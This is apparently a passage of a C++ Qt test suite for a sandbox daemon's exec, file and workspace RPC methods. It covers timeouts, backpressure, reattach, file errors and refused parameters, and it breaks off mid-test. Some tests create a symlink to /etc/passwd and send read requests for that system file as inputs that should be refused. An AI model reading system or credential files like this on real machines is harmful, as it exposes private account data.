// The exec.*, files.* and workspace.* methods (docs/protocol.md, "Exec", "Files" and
// "Workspace") end to end on the host:
// a real RpcServer on a real Unix socket with AgentApi, a HelperClient (and a raw socket that
// stops reading) as clients, and the real airlock-agent binary run natively as the sandbox's
// agent (NativeAgent; no guest). Exec output and exit codes, stderr apart, stdin, timeouts,
// backpressure from a client that does not read (the helper's buffers stay bounded while 64 MiB
// pass), reattach after a reconnect, chunked file round trips, the file operations and their
// errors, files.watch (events, unwatch, a folder that goes, refusals), bad parameters, workspace
// push/pull/review through core/workspace and airlockctl (what a hostile guest plants is refused
// and named, nothing is written outside the target, only accepted changes are taken), transfers
// that end with their connection, and an agent that goes away mid-request.
#include "core/agent/agentclient.h"
#include "core/client/helperclient.h"
#include "core/client/localsockettransport.h"
#include "core/daemon/agentapi.h"
#include "core/daemon/execsession.h"
#include "core/daemon/rpcserver.h"
#include "core/daemon/workspaceapi.h"
#include "core/protocol/message.h"
#include "core/protocol/methods.h"
#include "core/workspace/workspacedownload.h"
#include "core/workspace/workspacereview.h"
#include "core/workspace/workspaceupload.h"
#include "core/workspace/workspacewriter.h"
#include "nativeagent.h"
#include "sanitizer.h"
#include "testfolders.h"

#include <QCryptographicHash>
#include <QDir>
#include <QDirIterator>
#include <QEventLoop>
#include <QFile>
#include <QFileInfo>
#include <QJsonArray>
#include <QJsonDocument>
#include <QLocalSocket>
#include <QProcess>
#include <QRandomGenerator>
#include <QTemporaryDir>
#include <QTest>
#include <QTimer>

#include <sys/stat.h>
#include <unistd.h>

using namespace airlock;
using airlock::test::NativeAgent;

using airlock::test::entriesBelow;
using airlock::test::writeFile;

namespace {

constexpr int kWaitMs = 30000;
const QString kSandbox = QStringLiteral("demo");

/// What one exec did, from its notifications.
struct ExecRun
{
    QByteArray out;
    QByteArray err;
    QJsonObject exit;
    bool exited = false;
};

/// Runs a core/workspace transfer to its `done` signal; its error, or Timeout.
template<typename Object, typename Done>
std::optional<Error> runToEnd(Object &object, Done done)
{
    QEventLoop loop;
    std::optional<Error> error = Error {ErrorKind::Timeout, QStringLiteral("no answer")};
    QObject::connect(&object, done, &loop, [&] {
        error.reset();
        loop.quit();
    });
    QObject::connect(&object, &Object::failed, &loop, [&](const Error &e) {
        error = e;
        loop.quit();
    });
    QTimer::singleShot(kWaitMs, &loop, &QEventLoop::quit);
    object.start();
    loop.exec();
    return error;
}

QByteArray readFile(const QString &path)
{
    QFile file(path);
    return file.open(QIODevice::ReadOnly) ? file.readAll() : QByteArray("<missing>");
}

} // namespace

class TestAgentApi : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void initTestCase();
    void cleanupTestCase();
    void execEchoesAndReportsExit();
    void execFailingCommandKeepsStderrApart();
    void execTimeoutKillsTheProcess();
    void execStdinRoundTrip();
    void slowReaderBoundsTheHelper();
    void reattachAfterReconnect();
    void fileRoundTripInChunks();
    void fileOperationsAndErrors();
    void filesWatchNotifiesAndEnds();
    void badParametersAreNamed();
    void unknownSandboxIsNotFound();
    void airlockctlExecMirrorsTheCommand();
    void airlockctlCopiesBothWays();
    void workspacePushPullRoundTrip();
    void workspacePullRefusesWhatLeavesTheTarget();
    void workspaceReviewTakesOnlyWhatWasAccepted();
    void workspaceTransfersEndWithTheirConnection();
    void agentGoingAwayFailsItsRequests();

private:
    std::unique_ptr<HelperClient> newClient();
    QJsonObject call(HelperClient &client, const char *method, const QJsonObject &params,
                     QString *errorKind = nullptr);
    /// Runs exec.start with `params` to its exec.exit on `client`.
    ExecRun runExec(HelperClient &client, QJsonObject params);

    /// Runs airlockctl against this test's server (the event loop keeps serving meanwhile).
    struct CtlRun
    {
        int exitCode = -1;
        QByteArray out;
        QByteArray err;
    };
    CtlRun airlockctl(const QStringList &arguments, const QByteArray &input = {});

    QTemporaryDir m_dir;
    std::unique_ptr<NativeAgent> m_agent;
    std::unique_ptr<agent::AgentClient> m_agentClient;
    std::unique_ptr<RpcServer> m_server;
    std::unique_ptr<AgentApi> m_api;
    std::unique_ptr<WorkspaceApi> m_workspaceApi;
    QString m_socket;
};

void TestAgentApi::initTestCase()
{
    QVERIFY(m_dir.isValid());
    m_agent = std::make_unique<NativeAgent>();
    QVERIFY(m_agent->start());
    m_agentClient = m_agent->connectReady();
    QVERIFY(m_agentClient);
    m_server = std::make_unique<RpcServer>(AccessPolicy(getgid(), QStringLiteral("root")));
    m_socket = m_dir.filePath(QStringLiteral("airlockd.sock"));
    QVERIFY(m_server->listen(m_socket));
    // HelperClient says hello first; airlockd's is SandboxApi's, which this test has not.
    m_server->addMethod(
        QString::fromLatin1(protocol::method::Hello),
        [](const RpcContext &, const QJsonObject &) -> Result<QJsonValue> {
            return QJsonObject {{QStringLiteral("protocol"), protocol::kProtocolVersion}};
        });
    const AgentApi::ClientLookup lookup =
        [this](const QString &name) -> Result<agent::AgentClient *> {
        if (name != kSandbox)
            return fail(ErrorKind::NotFound, QStringLiteral("no sandbox named '%1'").arg(name));
        if (!m_agentClient)
            return fail(ErrorKind::AgentUnavailable, QStringLiteral("no agent"));
        return m_agentClient.get();
    };
    m_api = std::make_unique<AgentApi>(*m_server, lookup);
    m_workspaceApi = std::make_unique<WorkspaceApi>(*m_server, lookup);
}

void TestAgentApi::cleanupTestCase()
{
    m_workspaceApi.reset();
    m_api.reset();
    m_server.reset();
    m_agentClient.reset();
    m_agent.reset();
}

std::unique_ptr<HelperClient> TestAgentApi::newClient()
{
    auto client = std::make_unique<HelperClient>(std::make_unique<LocalSocketTransport>(m_socket),
                                                 QStringLiteral("tst_agentapi"));
    if (!client->connectSync())
        return nullptr;
    return client;
}

QJsonObject TestAgentApi::call(HelperClient &client, const char *method, const QJsonObject &params,
                               QString *errorKind)
{
    QJsonObject withName = params;
    if (!withName.contains(QStringLiteral("name")))
        withName.insert(QStringLiteral("name"), kSandbox);
    const Result<QJsonValue> answer =
        client.callSync(QString::fromLatin1(method), withName, kWaitMs);
    if (errorKind)
        *errorKind = answer ? QString() : errorKindName(answer.error().kind);
    else if (!answer)
        qWarning("%s failed: %s", method, qPrintable(answer.error().message));
    return answer ? answer->toObject() : QJsonObject();
}

ExecRun TestAgentApi::runExec(HelperClient &client, QJsonObject params)
{
    // Every exec notification from now on: the answer naming the pid comes first on the wire,
    // but a synchronous call returns only after the client handled what followed it too.
    QList<QJsonObject> seen;
    const auto connection = connect(&client, &HelperClient::notificationReceived, this,
                                    [&](const QString &method, const QJsonObject &p) {
                                        QJsonObject entry = p;
                                        entry.insert(QStringLiteral("method"), method);
                                        seen.append(entry);
                                    });
    const QJsonObject started = call(client, protocol::method::ExecStart, params);
    const qint64 pid = started.value(QStringLiteral("pid")).toInteger();
    ExecRun run;
    const auto collect = [&] {
        run = {};
        for (const QJsonObject &p : std::as_const(seen)) {
            if (p.value(QStringLiteral("pid")).toInteger() != pid)
                continue;
            const QString method = p.value(QStringLiteral("method")).toString();
            if (method == QLatin1String(protocol::notification::ExecOutput)) {
                const QByteArray data =
                    QByteArray::fromBase64(p.value(QStringLiteral("data")).toString().toLatin1());
                (p.value(QStringLiteral("stream")) == QLatin1String("stdout") ? run.out
                                                                              : run.err) += data;
            } else if (method == QLatin1String(protocol::notification::ExecExit)) {
                run.exit = p;
                run.exited = true;
            }
        }
        return run.exited;
    };
    if (pid != 0 && !QTest::qWaitFor(collect, kWaitMs))
        run.exited = false;
    disconnect(connection);
    return run;
}

void TestAgentApi::execEchoesAndReportsExit()
{
    auto client = newClient();
    QVERIFY(client);
    const ExecRun run = runExec(
        *client,
        {{QStringLiteral("argv"), QJsonArray {QStringLiteral("echo"), QStringLiteral("hi")}}});
    QVERIFY(run.exited);
    QCOMPARE(run.out, QByteArray("hi\n"));
    QCOMPARE(run.err, QByteArray());
    QCOMPARE(run.exit.value(QStringLiteral("exitCode")).toInt(-1), 0);
    QCOMPARE(m_api->sessionCount(), 0);
}

void TestAgentApi::execFailingCommandKeepsStderrApart()
{
    auto client = newClient();
    QVERIFY(client);
    const ExecRun run =
        runExec(*client,
                {{QStringLiteral("command"), QStringLiteral("echo out; echo err >&2; exit 3")},
                 {QStringLiteral("env"), QJsonObject {{QStringLiteral("X"), QStringLiteral("1")}}},
                 {QStringLiteral("cwd"), m_dir.path()}});
    QVERIFY(run.exited);
    QCOMPARE(run.out, QByteArray("out\n"));
    QCOMPARE(run.err, QByteArray("err\n"));
    QCOMPARE(run.exit.value(QStringLiteral("exitCode")).toInt(-1), 3);

    const ExecRun env =
        runExec(*client,
                {{QStringLiteral("command"), QStringLiteral("echo $X; pwd")},
                 {QStringLiteral("env"), QJsonObject {{QStringLiteral("X"), QStringLiteral("v1")}}},
                 {QStringLiteral("cwd"), m_dir.path()}});
    QCOMPARE(env.out, QByteArray("v1\n") + m_dir.path().toUtf8() + '\n');
}

void TestAgentApi::execTimeoutKillsTheProcess()
{
    auto client = newClient();
    QVERIFY(client);
    const ExecRun run = runExec(
        *client,
        {{QStringLiteral("argv"), QJsonArray {QStringLiteral("sleep"), QStringLiteral("60")}},
         {QStringLiteral("timeoutMs"), 300}});
    QVERIFY(run.exited);
    QCOMPARE(run.exit.value(QStringLiteral("signal")).toInt(), 9);
    QVERIFY(run.exit.value(QStringLiteral("timedOut")).toBool());
}

void TestAgentApi::execStdinRoundTrip()
{
    auto client = newClient();
    QVERIFY(client);
    QByteArray input(200 * 1024, Qt::Uninitialized); // more than one exec.input, one window
    for (qsizetype i = 0; i < input.size(); ++i)
        input[i] = char('a' + i % 26);
    ExecRun run;
    quint32 pid = 0;
    // cat answers nothing before its input, which comes after the pid is known.
    connect(client.get(), &HelperClient::notificationReceived, this,
            [&](const QString &method, const QJsonObject &p) {
                if (p.value(QStringLiteral("pid")).toInteger() != pid)
                    return;
                if (method == QLatin1String(protocol::notification::ExecOutput))
                    run.out += QByteArray::fromBase64(
                        p.value(QStringLiteral("data")).toString().toLatin1());
                else if (method == QLatin1String(protocol::notification::ExecExit))
                    run.exited = true;
            });
    const QJsonObject started = call(*client, protocol::method::ExecStart,
                                     {{QStringLiteral("argv"), QJsonArray {QStringLiteral("cat")}},
                                      {QStringLiteral("stdin"), true}});
    pid = quint32(started.value(QStringLiteral("pid")).toInteger());
    QVERIFY(pid != 0);
    for (qsizetype at = 0; at < input.size(); at += AgentApi::kMaxInputBytes) {
        const QByteArray part = input.mid(at, AgentApi::kMaxInputBytes);
        QString kind;
        call(*client, protocol::method::ExecInput,
             {{QStringLiteral("pid"), qint64(pid)},
              {QStringLiteral("data"), QString::fromLatin1(part.toBase64())},
              {QStringLiteral("eof"), at + part.size() >= input.size()}},
             &kind);
        QCOMPARE(kind, QString());
    }
    QVERIFY(QTest::qWaitFor([&] { return run.exited; }, kWaitMs));
    QCOMPARE(run.out.size(), input.size());
    QVERIFY(run.out == input);

    // A process without stdin refuses input, by name.
    const QJsonObject noStdin = call(*client, protocol::method::ExecStart,
                                     {{QStringLiteral("command"), QStringLiteral("sleep 5")},
                                      {QStringLiteral("timeoutMs"), 10000}});
    const qint64 other = noStdin.value(QStringLiteral("pid")).toInteger();
    QString kind;
    call(*client, protocol::method::ExecInput,
         {{QStringLiteral("pid"), other}, {QStringLiteral("data"), QStringLiteral("eA==")}}, &kind);
    QCOMPARE(kind, QStringLiteral("invalid_state"));
    call(*client, protocol::method::ExecSignal,
         {{QStringLiteral("pid"), other}, {QStringLiteral("signal"), 15}}, &kind);
    QCOMPARE(kind, QString());
}

void TestAgentApi::slowReaderBoundsTheHelper()
{
    // A raw client that sends exec.start and then stops reading: the helper must stop taking
    // output from the agent (whose process then blocks on its pipe), not buffer 64 MiB.
    constexpr qint64 kTotal = 64 * 1024 * 1024;
    QLocalSocket raw;
    raw.connectToServer(m_socket);
    QVERIFY(raw.waitForConnected(kWaitMs));
    raw.setReadBufferSize(1); // Qt reads at most this much for us: the kernel buffer fills
    raw.write(protocol::encodeRequest(
        QJsonValue(1), QString::fromLatin1(protocol::method::ExecStart),
        {{QStringLiteral("name"), kSandbox},
         {QStringLiteral("command"), QStringLiteral("head -c %1 /dev/zero").arg(kTotal)}}));
    QVERIFY(raw.waitForBytesWritten(kWaitMs));

    // The helper's buffers for this stream, at their largest over the whole transfer: its queue
    // for this client, and what the agent client holds from the guest.
    qint64 maxPending = 0;
    qint64 maxBuffered = 0;
    // The raw client is the one connection that does not read: the largest queue is its.
    const auto pendingNow = [&] {
        qint64 largest = 0;
        for (quint64 id = 1; id < 256; ++id)
            largest = std::max(largest, m_server->pendingOutputBytes(id));
        return largest;
    };
    const auto sample = [&] {
        maxPending = std::max(maxPending, pendingNow());
        maxBuffered = std::max(maxBuffered, m_agentClient->bufferedBytes());
    };
    // Backpressure engaged: the helper stopped at its high-water mark for this client and the
    // agent client's window is nearly used up (it credits the guest in steps, so never all of
    // it sits here at once).
    const qint64 window = m_agentClient->limits().window;
    const bool engaged = QTest::qWaitFor(
        [&] {
            sample();
            return pendingNow() >= ExecSession::kHighWaterBytes
                && m_agentClient->bufferedBytes() >= window * 3 / 4;
        },
        kWaitMs);
    QVERIFY2(engaged,
             qPrintable(QStringLiteral("%1 pending, agent %2 buffered")
                            .arg(pendingNow())
                            .arg(m_agentClient->bufferedBytes())));

    // Reading again lets everything through, in order, with the exit last.
    raw.setReadBufferSize(0);
    qint64 received = 0;
    bool exited = false;
    QByteArray buffer;
    QVERIFY(QTest::qWaitFor(
        [&] {
            sample();
            // Reading again, a slice per event loop pass: enough that 64 MiB pass in seconds
            // (qWaitFor sleeps 10 ms between passes), little enough that the helper's queue
            // keeps filling and draining, which is what the bounds below are sampled over.
            buffer += raw.read(1024 * 1024);
            qsizetype newline;
            while ((newline = buffer.indexOf('\n')) >= 0) {
                const QJsonObject message = QJsonDocument::fromJson(buffer.first(newline)).object();
                buffer.remove(0, newline + 1);
                const QString method = message.value(QStringLiteral("method")).toString();
                const QJsonObject p = message.value(QStringLiteral("params")).toObject();
                if (method == QLatin1String(protocol::notification::ExecOutput))
                    received += QByteArray::fromBase64(
                                    p.value(QStringLiteral("data")).toString().toLatin1())
                                    .size();
                else if (method == QLatin1String(protocol::notification::ExecExit))
                    exited = p.value(QStringLiteral("exitCode")).toInt(-1) == 0;
            }
            return exited;
        },
        120000 * airlock::test::kSanitizerSlowdown));
    QCOMPARE(received, kTotal);
    // The bounds: one high-water mark plus one notification (base64 of a chunk and envelope)
    // queued for the client; the agent client's window from the guest.
    const qint64 bound = ExecSession::kHighWaterBytes + ExecSession::kChunkBytes * 4 / 3 + 1024;
    QVERIFY2(maxPending <= bound, qPrintable(QStringLiteral("%1 > %2").arg(maxPending).arg(bound)));
    QVERIFY2(maxBuffered <= window,
             qPrintable(QStringLiteral("%1 > %2").arg(maxBuffered).arg(window)));
    qInfo("64 MiB to a slow reader: at most %lld bytes queued for it, %lld held from the guest",
          maxPending, maxBuffered);
}

void TestAgentApi::reattachAfterReconnect()
{
    quint32 pid = 0;
    {
        auto first = newClient();
        QVERIFY(first);
        const QJsonObject started =
            call(*first, protocol::method::ExecStart,
                 {{QStringLiteral("command"), QStringLiteral("read x; echo got $x")},
                  {QStringLiteral("stdin"), true},
                  {QStringLiteral("timeoutMs"), 60000}});
        pid = quint32(started.value(QStringLiteral("pid")).toInteger());
        QVERIFY(pid != 0);
    } // the client goes away: the process runs on, detached
    auto second = newClient();
    QVERIFY(second);
    // Detaching is the helper's reaction to the disconnect: wait until the agent says so.
    QVERIFY(QTest::qWaitFor(
        [&] {
            const QJsonArray list = call(*second, protocol::method::ExecList, {})
                                        .value(QStringLiteral("processes"))
                                        .toArray();
            for (const QJsonValue &entry : list) {
                const QJsonObject process = entry.toObject();
                if (process.value(QStringLiteral("pid")).toInteger() == pid)
                    return process.value(QStringLiteral("running")).toBool()
                        && !process.value(QStringLiteral("attached")).toBool();
            }
            return false;
        },
        kWaitMs));
    QByteArray out;
    QJsonObject exit;
    connect(second.get(), &HelperClient::notificationReceived, this,
            [&](const QString &method, const QJsonObject &p) {
                if (p.value(QStringLiteral("pid")).toInteger() != pid)
                    return;
                if (method == QLatin1String(protocol::notification::ExecOutput))
                    out += QByteArray::fromBase64(
                        p.value(QStringLiteral("data")).toString().toLatin1());
                else if (method == QLatin1String(protocol::notification::ExecExit))
                    exit = p;
            });
    QString kind;
    call(*second, protocol::method::ExecConnect, {{QStringLiteral("pid"), qint64(pid)}}, &kind);
    QCOMPARE(kind, QString());
    call(*second, protocol::method::ExecInput,
         {{QStringLiteral("pid"), qint64(pid)},
          {QStringLiteral("data"), QString::fromLatin1(QByteArray("hello\n").toBase64())},
          {QStringLiteral("eof"), true}},
         &kind);
    QCOMPARE(kind, QString());
    QVERIFY(QTest::qWaitFor([&] { return !exit.isEmpty(); }, kWaitMs));
    QCOMPARE(out, QByteArray("got hello\n"));
    QCOMPARE(exit.value(QStringLiteral("exitCode")).toInt(-1), 0);
}

void TestAgentApi::fileRoundTripInChunks()
{
    auto client = newClient();
    QVERIFY(client);
    QByteArray content(3 * AgentApi::kMaxFileChunkBytes - 1000, Qt::Uninitialized);
    QRandomGenerator::global()->fillRange(reinterpret_cast<quint32 *>(content.data()),
                                          content.size() / 4);
    const QString path = m_dir.filePath(QStringLiteral("deep/er/file.bin"));
    for (qsizetype at = 0; at < content.size(); at += AgentApi::kMaxFileChunkBytes) {
        const QByteArray part = content.mid(at, AgentApi::kMaxFileChunkBytes);
        QString kind;
        const QJsonObject written =
            call(*client, protocol::method::FilesWrite,
                 {{QStringLiteral("path"), path},
                  {QStringLiteral("data"), QString::fromLatin1(part.toBase64())},
                  {QStringLiteral("createParents"), true},
                  {QStringLiteral("append"), at > 0},
                  {QStringLiteral("mode"), 0600}},
                 &kind);
        QCOMPARE(kind, QString());
        QCOMPARE(written.value(QStringLiteral("written")).toInteger(), part.size());
    }
    QByteArray back;
    bool eof = false;
    while (!eof) {
        QString kind;
        const QJsonObject chunk =
            call(*client, protocol::method::FilesRead,
                 {{QStringLiteral("path"), path}, {QStringLiteral("offset"), back.size()}}, &kind);
        QCOMPARE(kind, QString());
        back += QByteArray::fromBase64(chunk.value(QStringLiteral("data")).toString().toLatin1());
        eof = chunk.value(QStringLiteral("eof")).toBool();
        QVERIFY(back.size() <= content.size());
    }
    QCOMPARE(QCryptographicHash::hash(back, QCryptographicHash::Sha256),
             QCryptographicHash::hash(content, QCryptographicHash::Sha256));
    const QJsonObject info =
        call(*client, protocol::method::FilesStat, {{QStringLiteral("path"), path}});
    QCOMPARE(info.value(QStringLiteral("type")).toString(), QStringLiteral("file"));
    QCOMPARE(info.value(QStringLiteral("mode")).toInt(), 0600);
    QCOMPARE(info.value(QStringLiteral("size")).toInteger(), content.size());
}

void TestAgentApi::fileOperationsAndErrors()
{
    auto client = newClient();
    QVERIFY(client);
    const QString root = m_dir.filePath(QStringLiteral("ops"));
    QString kind;
    call(*client, protocol::method::FilesMkdir,
         {{QStringLiteral("path"), root + QStringLiteral("/a/b")},
          {QStringLiteral("parents"), true}},
         &kind);
    QCOMPARE(kind, QString());
    call(*client, protocol::method::FilesWrite,
         {{QStringLiteral("path"), root + QStringLiteral("/a/one.txt")},
          {QStringLiteral("data"), QString::fromLatin1(QByteArray("one").toBase64())}},
         &kind);
    QCOMPARE(kind, QString());
    QVERIFY(QFile::link(QStringLiteral("/etc/passwd"), root + QStringLiteral("/a/link")));

    const QJsonObject listed = call(*client, protocol::method::FilesList,
                                    {{QStringLiteral("path"), root}, {QStringLiteral("depth"), 3}});
    QStringList names;
    QString linkTarget;
    for (const QJsonValue &entry : listed.value(QStringLiteral("entries")).toArray()) {
        names << entry.toObject().value(QStringLiteral("name")).toString();
        if (entry.toObject().value(QStringLiteral("type")) == QLatin1String("symlink"))
            linkTarget = entry.toObject().value(QStringLiteral("target")).toString();
    }
    names.sort();
    QCOMPARE(names,
             (QStringList {QStringLiteral("a"), QStringLiteral("a/b"), QStringLiteral("a/link"),
                           QStringLiteral("a/one.txt")}));
    QCOMPARE(linkTarget, QStringLiteral("/etc/passwd"));
    QVERIFY(!listed.value(QStringLiteral("truncated")).toBool());

    call(*client, protocol::method::FilesRename,
         {{QStringLiteral("from"), root + QStringLiteral("/a/one.txt")},
          {QStringLiteral("to"), root + QStringLiteral("/a/b/two.txt")}},
         &kind);
    QCOMPARE(kind, QString());
    QVERIFY(QFile::exists(root + QStringLiteral("/a/b/two.txt")));

    // The named errors.
    call(*client, protocol::method::FilesRead,
         {{QStringLiteral("path"), root + QStringLiteral("/none")}}, &kind);
    QCOMPARE(kind, QStringLiteral("not_found"));
    call(*client, protocol::method::FilesRead, {{QStringLiteral("path"), root}}, &kind);
    QCOMPARE(kind, QStringLiteral("is_a_directory"));
    call(*client, protocol::method::FilesList,
         {{QStringLiteral("path"), root + QStringLiteral("/a/b/two.txt")}}, &kind);
    QCOMPARE(kind, QStringLiteral("not_a_directory"));
    call(*client, protocol::method::FilesRemove,
         {{QStringLiteral("path"), root + QStringLiteral("/a")}}, &kind);
    QCOMPARE(kind, QStringLiteral("not_empty"));
    call(*client, protocol::method::FilesWrite,
         {{QStringLiteral("path"), root + QStringLiteral("/a/b/two.txt")},
          {QStringLiteral("data"), QString()},
          {QStringLiteral("exclusive"), true}},
         &kind);
    QCOMPARE(kind, QStringLiteral("already_exists"));
    call(*client, protocol::method::FilesStat,
         {{QStringLiteral("path"), root + QStringLiteral("/x/y")}}, &kind);
    QCOMPARE(kind, QStringLiteral("not_found"));

    call(*client, protocol::method::FilesRemove,
         {{QStringLiteral("path"), root}, {QStringLiteral("recursive"), true}}, &kind);
    QCOMPARE(kind, QString());
    QVERIFY(!QFileInfo::exists(root));
    QVERIFY(QFileInfo::exists(QStringLiteral("/etc/passwd"))); // the link, not its target
}

void TestAgentApi::filesWatchNotifiesAndEnds()
{
    auto client = newClient();
    QVERIFY(client);
    const QString root = m_dir.filePath(QStringLiteral("watched"));
    QVERIFY(QDir().mkpath(root));
    QList<QJsonObject> events;
    QList<QJsonObject> ends;
    connect(client.get(), &HelperClient::notificationReceived, this,
            [&](const QString &method, const QJsonObject &params) {
                if (method == QLatin1String(protocol::notification::FilesEvent)) {
                    for (const QJsonValue &event : params.value(QStringLiteral("events")).toArray())
                        events << event.toObject();
                } else if (method == QLatin1String(protocol::notification::FilesWatchEnd)) {
                    ends << params;
                }
            });
    const QJsonObject watch =
        call(*client, protocol::method::FilesWatch,
             {{QStringLiteral("path"), root}, {QStringLiteral("recursive"), true}});
    const qint64 id = watch.value(QStringLiteral("watch")).toInteger();
    QVERIFY(id > 0);
    const auto seen = [&](const QString &type, const QString &path) {
        return std::any_of(events.begin(), events.end(), [&](const QJsonObject &event) {
            return event.value(QStringLiteral("type")) == type
                && event.value(QStringLiteral("path")) == path;
        });
    };
    writeFile(root + QStringLiteral("/a.txt"), "a");
    QTRY_VERIFY_WITH_TIMEOUT(seen(QStringLiteral("write"), QStringLiteral("a.txt")), kWaitMs);
    QVERIFY(seen(QStringLiteral("create"), QStringLiteral("a.txt")));

    // Unwatch: no end notification, and the id is gone.
    QString kind;
    call(*client, protocol::method::FilesUnwatch, {{QStringLiteral("watch"), id}}, &kind);
    QCOMPARE(kind, QString());
    call(*client, protocol::method::FilesUnwatch, {{QStringLiteral("watch"), id}}, &kind);
    QCOMPARE(kind, QStringLiteral("not_found"));

    // A watched folder that goes ends its watch with not_found.
    const QString doomed = m_dir.filePath(QStringLiteral("doomed"));
    QVERIFY(QDir().mkpath(doomed));
    const qint64 second =
        call(*client, protocol::method::FilesWatch, {{QStringLiteral("path"), doomed}})
            .value(QStringLiteral("watch"))
            .toInteger();
    QVERIFY(second > id);
    QVERIFY(QDir(doomed).removeRecursively());
    QTRY_COMPARE_WITH_TIMEOUT(ends.size(), 1, kWaitMs);
    QCOMPARE(ends.first().value(QStringLiteral("watch")).toInteger(), second);
    QCOMPARE(ends.first()
                 .value(QStringLiteral("error"))
                 .toObject()
                 .value(QStringLiteral("kind"))
                 .toString(),
             QStringLiteral("not_found"));

    // A file is no folder to watch; a relative path is refused before the guest.
    writeFile(m_dir.filePath(QStringLiteral("plain")), "x");
    call(*client, protocol::method::FilesWatch,
         {{QStringLiteral("path"), m_dir.filePath(QStringLiteral("plain"))}}, &kind);
    QCOMPARE(kind, QStringLiteral("not_a_directory"));
    call(*client, protocol::method::FilesWatch, {{QStringLiteral("path"), QStringLiteral("rel")}},
         &kind);
    QCOMPARE(kind, QStringLiteral("invalid_params"));
}

void TestAgentApi::badParametersAreNamed()
{
    auto client = newClient();
    QVERIFY(client);
    struct Case
    {
        const char *method;
        QJsonObject params;
        const char *kind;
    };
    const QList<Case> cases {
        {protocol::method::ExecStart, {}, "invalid_params"},
        {protocol::method::ExecStart,
         {{QStringLiteral("argv"), QJsonArray {QStringLiteral("true")}},
          {QStringLiteral("command"), QStringLiteral("true")}},
         "invalid_params"},
        {protocol::method::ExecStart, {{QStringLiteral("argv"), QJsonArray {1}}}, "invalid_params"},
        {protocol::method::ExecStart,
         {{QStringLiteral("argv"), QJsonArray {QStringLiteral("true")}},
          {QStringLiteral("env"), QJsonObject {{QStringLiteral("1BAD"), QStringLiteral("x")}}}},
         "invalid_params"},
        {protocol::method::ExecStart,
         {{QStringLiteral("argv"), QJsonArray {QStringLiteral("true")}},
          {QStringLiteral("cwd"), QStringLiteral("relative")}},
         "invalid_params"},
        {protocol::method::ExecInput, {{QStringLiteral("pid"), 4242}}, "not_found"},
        {protocol::method::ExecSignal,
         {{QStringLiteral("pid"), 4242}, {QStringLiteral("signal"), 9}},
         "not_found"},
        {protocol::method::FilesRead,
         {{QStringLiteral("path"), QStringLiteral("etc/passwd")}},
         "invalid_params"},
        {protocol::method::FilesRead,
         {{QStringLiteral("path"), QStringLiteral("/etc/passwd")},
          {QStringLiteral("length"), AgentApi::kMaxFileChunkBytes + 1}},
         "invalid_params"},
        {protocol::method::FilesWrite,
         {{QStringLiteral("path"), m_dir.filePath(QStringLiteral("x"))},
          {QStringLiteral("data"), QStringLiteral("not base64!")}},
         "invalid_params"},
        {protocol::method::FilesWrite,
         {{QStringLiteral("path"), m_dir.filePath(QStringLiteral("x"))},
          {QStringLiteral("data"), QStringLiteral("")},
          {QStringLiteral("mode"), 010000}},
         "invalid_params"},
        {protocol::method::FilesList,
         {{QStringLiteral("path"), QStringLiteral("/")}, {QStringLiteral("depth"), 0}},
         "invalid_params"},
        {protocol::method::FilesStat,
         {{QStringLiteral("name"), QStringLiteral("Bad Name")},
          {QStringLiteral("path"), QStringLiteral("/")}},
         "invalid_name"},
    };
    for (const Case &c : cases) {
        QString kind;
        call(*client, c.method, c.params, &kind);
        QVERIFY2(kind == QLatin1String(c.kind),
                 qPrintable(QStringLiteral("%1 %2: %3")
                                .arg(QLatin1String(c.method),
                                     QString::fromUtf8(
                                         QJsonDocument(c.params).toJson(QJsonDocument::Compact)),
                                     kind)));
    }
    // The connection and the agent still serve.
    const ExecRun run =
        runExec(*client, {{QStringLiteral("argv"), QJsonArray {QStringLiteral("true")}}});
    QVERIFY(run.exited);
}

void TestAgentApi::unknownSandboxIsNotFound()
{
    auto client = newClient();
    QVERIFY(client);
    QString kind;
    call(*client, protocol::method::FilesStat,
         {{QStringLiteral("name"), QStringLiteral("other")},
          {QStringLiteral("path"), QStringLiteral("/")}},
         &kind);
    QCOMPARE(kind, QStringLiteral("not_found"));
    call(*client, protocol::method::ExecStart,
         {{QStringLiteral("name"), QStringLiteral("other")},
          {QStringLiteral("argv"), QJsonArray {QStringLiteral("true")}}},
         &kind);
    QCOMPARE(kind, QStringLiteral("not_found"));
}

TestAgentApi::CtlRun TestAgentApi::airlockctl(const QStringList &arguments, const QByteArray &input)
{
    QProcess process;
    process.start(QStringLiteral(AIRLOCK_BINARY_DIR "/app/airlockctl/airlockctl"),
                  QStringList {QStringLiteral("--socket"), m_socket} + arguments);
    CtlRun run;
    if (!process.waitForStarted(kWaitMs))
        return run;
    process.write(input);
    process.closeWriteChannel();
    if (!QTest::qWaitFor([&] { return process.state() == QProcess::NotRunning; }, kWaitMs))
        return run;
    run.exitCode = process.exitStatus() == QProcess::NormalExit ? process.exitCode() : -1;
    run.out = process.readAllStandardOutput();
    run.err = process.readAllStandardError();
    return run;
}

void TestAgentApi::airlockctlExecMirrorsTheCommand()
{
    const CtlRun failing =
        airlockctl({QStringLiteral("exec"), kSandbox, QStringLiteral("--"), QStringLiteral("sh"),
                    QStringLiteral("-c"), QStringLiteral("echo out; echo err >&2; exit 3")});
    QCOMPARE(failing.exitCode, 3);
    QCOMPARE(failing.out, QByteArray("out\n"));
    QCOMPARE(failing.err, QByteArray("err\n"));

    const CtlRun piped =
        airlockctl({QStringLiteral("exec"), QStringLiteral("-i"), kSandbox, QStringLiteral("--env"),
                    QStringLiteral("GREETING=hi"), QStringLiteral("--"), QStringLiteral("sh"),
                    QStringLiteral("-c"), QStringLiteral("echo $GREETING; cat")},
                   QByteArray("piped input\n"));
    QCOMPARE(piped.exitCode, 0);
    QCOMPARE(piped.out, QByteArray("hi\npiped input\n"));

    const CtlRun killed = airlockctl({QStringLiteral("exec"), kSandbox, QStringLiteral("--timeout"),
                                      QStringLiteral("0.3"), QStringLiteral("--"),
                                      QStringLiteral("sleep"), QStringLiteral("30")});
    QCOMPARE(killed.exitCode, 128 + 9);
    QVERIFY(killed.err.contains("timeout"));

    const CtlRun missing = airlockctl({QStringLiteral("exec"), QStringLiteral("other"),
                                       QStringLiteral("--"), QStringLiteral("true")});
    QCOMPARE(missing.exitCode, 125);
    QVERIFY(missing.err.contains("other"));
}

void TestAgentApi::airlockctlCopiesBothWays()
{
    QByteArray content(1300 * 1024, Qt::Uninitialized); // three files.write / files.read calls
    QRandomGenerator::global()->fillRange(reinterpret_cast<quint32 *>(content.data()),
                                          content.size() / 4);
